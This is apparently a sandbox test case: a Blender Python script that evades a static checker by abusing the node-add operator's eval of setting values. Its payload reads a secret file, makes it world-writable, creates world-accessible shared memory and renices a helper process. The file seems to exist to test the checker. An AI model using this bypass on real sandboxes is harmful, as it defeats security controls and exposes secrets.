# mode: full
# result: any
# tries: a second escape from the static checker: Blender's node-add operator evals each setting's `value`, and a plain function object is a bag for any attribute, so it stands in for the operator (no denied word, no dunder); then read the secret, chmod it, leave shared memory, renice a helper
import bpy

payload = """
import ctypes, os
out = []
try:
    out.append(open('@SECRET_FILE@').read()[:80])
except OSError as exc:
    out.append('read refused %d' % exc.errno)
for label, call in [('chmod', lambda: os.chmod('@SECRET_FILE@', 0o666)),
                    ('renice helper', lambda: os.setpriority(os.PRIO_PROCESS, @HELPER_PID@, 17))]:
    try:
        call()
        out.append(label + ' done')
    except OSError as exc:
        out.append(label + ' refused %d' % exc.errno)
out.append('shmget %d' % ctypes.CDLL(None).shmget(@IPC_KEY@ + 3, 4096, 0o1666))
raise RuntimeError('ESCAPED ' + ' | '.join(out))
"""


def operator():
    return None


def setting():
    return None


setting.value = "exec(" + repr(payload) + ", {})"  # a fresh namespace, with the real builtins
setting.name = "label"
operator.settings = [setting]
operator.report = print
bpy.types.NODE_OT_add_node.apply_node_settings(operator, None)
